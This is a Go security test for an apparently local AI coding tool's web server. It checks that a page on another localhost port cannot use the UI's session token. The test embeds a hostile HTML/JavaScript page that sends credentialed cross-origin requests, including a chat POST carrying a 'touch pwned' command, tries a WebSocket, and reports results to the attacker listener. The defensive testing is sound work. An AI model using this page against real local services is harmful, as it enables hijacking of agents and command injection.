package remote

import (
	"bufio"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nova-dev/nova/live"
	"github.com/nova-dev/nova/llm/llmtest"
)

// evilPage is what the other listener serves: it tries to reach nova
// with whatever the browser would send along (credentials: 'include', a
// form-like POST that needs no preflight, a WebSocket), then reports.
const evilPage = `<!doctype html><html><head><title>evil</title></head><body><script>
(async () => {
  const nova = %q;
  const out = [];
  const tries = [
    ['GET', '/api/sessions', {}],
    ['POST', '/api/chat', {mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: '{"message":"touch pwned"}'}],
  ];
  for (const [method, path, extra] of tries) {
    try {
      const r = await fetch(nova + path, {method, credentials: 'include', ...extra});
      out.push(method + ' ' + path + ' ' + r.status);
    } catch (e) {
      out.push(method + ' ' + path + ' blocked');
    }
  }
  await new Promise((done) => {
    const ws = new WebSocket(nova.replace('http', 'ws') + '/ws');
    ws.onopen = () => { out.push('ws open'); ws.close(); done(); };
    ws.onerror = () => { out.push('ws refused'); done(); };
  });
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
  document.title = 'attack done';
})();
</script></body></html>`

// heard is what a listener received: every request's method, path and
// headers.
type heard struct {
	mu   sync.Mutex
	reqs []string
}

func (h *heard) record(r *http.Request, extra string) {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s", r.Method, r.URL.RequestURI(), extra)
	for k, vs := range r.Header {
		fmt.Fprintf(&b, "\n  %s: %s", k, strings.Join(vs, ", "))
	}
	h.mu.Lock()
	h.reqs = append(h.reqs, b.String())
	h.mu.Unlock()
}

func (h *heard) all() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.reqs...)
}

// statusWriter records the status a handler answered with.
type statusWriter struct {
	http.ResponseWriter
	code int
}

func (w *statusWriter) WriteHeader(code int) {
	w.code = code
	w.ResponseWriter.WriteHeader(code)
}

// Hijack lets the WebSocket's upgrade take the connection (101).
func (w *statusWriter) Hijack() (net.Conn, *bufio.ReadWriter, error) {
	w.code = http.StatusSwitchingProtocols
	return http.NewResponseController(w.ResponseWriter).Hijack()
}

// Flush passes a stream's flushes on.
func (w *statusWriter) Flush() { _ = http.NewResponseController(w.ResponseWriter).Flush() }

// The attack of issue 23, in real Chromium: nova's UI is open and
// logged in, then a page of another local listener (another port of
// 127.0.0.1, the same site to the browser) is opened, in a tab of its
// own and in nova's tab. The listener receives no token in any request
// header (no cookie at all), and the page's requests to nova, made with
// credentials: 'include', are all refused 401: it cannot drive nova.
// The positive control is testdata/browser/ports.mjs: the page opened
// from the printed URL drives its session, keeps working after a reload
// and after the attack, and a second nova server on the machine does not
// log it out.
func TestWebUITokenStaysOnItsPort(t *testing.T) {
	t.Parallel()
	node, chromium, dir := browserTools(t)
	a, model := newHostServer(t, llmtest.Turn{Text: "Hello from A."}, llmtest.Turn{Text: "Still here."})
	const tokenB = "the-second-servers-own-token"
	b := newConfigServer(t, map[string]string{"ANTHROPIC_API_KEY": "k"}, func(o *Options) {
		o.Token = tokenB
		host := live.NewHost(context.Background(), live.Options{NovaHome: o.NovaHome, Workdir: o.Workdir, Home: o.Home, Getenv: o.Getenv, NoSandbox: true})
		t.Cleanup(host.Close)
		o.Sessions = host
	})

	// The other listener, on another port: it records every request it
	// gets and serves the page that tries nova A. It starts once nova A's
	// address is known.
	evil := &heard{}
	var novaURL string
	evilSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		evil.record(r, string(body))
		if r.URL.Path == "/report" {
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, evilPage, novaURL)
	}))
	evilURL := "http://" + evilSrv.Listener.Addr().String()

	// nova A as the browser reaches it, recording what the other
	// listener's page gets from it.
	var mu sync.Mutex
	var fromEvil []string
	novaA := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sw := &statusWriter{ResponseWriter: w, code: 200}
		a.srv.Handler().ServeHTTP(sw, r)
		if r.Header.Get("Origin") == evilURL {
			mu.Lock()
			fromEvil = append(fromEvil, fmt.Sprintf("%s %s: %d", r.Method, r.URL.Path, sw.code))
			mu.Unlock()
		}
	}))
	t.Cleanup(novaA.Close)
	novaURL = novaA.URL
	evilSrv.Start()
	t.Cleanup(evilSrv.Close)

	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, node, filepath.Join(dir, "ports.mjs"))
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "NOVA_A="+novaA.URL, "TOKEN_A="+testToken, "NOVA_B="+b.url, "TOKEN_B="+tokenB,
		"EVIL_URL="+evilURL, "CHROMIUM="+chromium)
	out, err := cmd.CombinedOutput()
	t.Logf("ports.mjs:\n%s", out)
	if err != nil {
		t.Fatalf("the browser test failed: %v", err)
	}

	got := evil.all()
	if len(got) < 4 { // two page loads and two reports
		t.Fatalf("the other listener heard %d requests, want its pages and reports:\n%s", len(got), strings.Join(got, "\n"))
	}
	for _, secret := range []string{testToken, base64.RawURLEncoding.EncodeToString([]byte(testToken)), tokenB} {
		for _, r := range got {
			if strings.Contains(r, secret) {
				t.Errorf("the other listener received a token:\n%s", r)
			}
		}
	}
	for _, r := range got {
		if strings.Contains(strings.ToLower(r), "\n  cookie:") {
			t.Errorf("the browser sent the other listener a cookie:\n%s", r)
		}
		if strings.HasPrefix(r, "POST /report") && (strings.Contains(r, " 200") || strings.Contains(r, "ws open")) {
			t.Errorf("the other listener's page reached nova: %s", r)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(fromEvil) < 3 {
		t.Fatalf("nova A saw %d requests from the other listener's page, want its tries: %v", len(fromEvil), fromEvil)
	}
	for _, r := range fromEvil {
		if !strings.HasSuffix(r, ": 401") {
			t.Errorf("nova A answered the other listener's page %s, want 401", r)
		}
	}
	// The model heard the page's two prompts, none from the attack.
	if n := len(model.Requests()); n != 2 {
		t.Errorf("the model was asked %d times, want 2", n)
	}
}
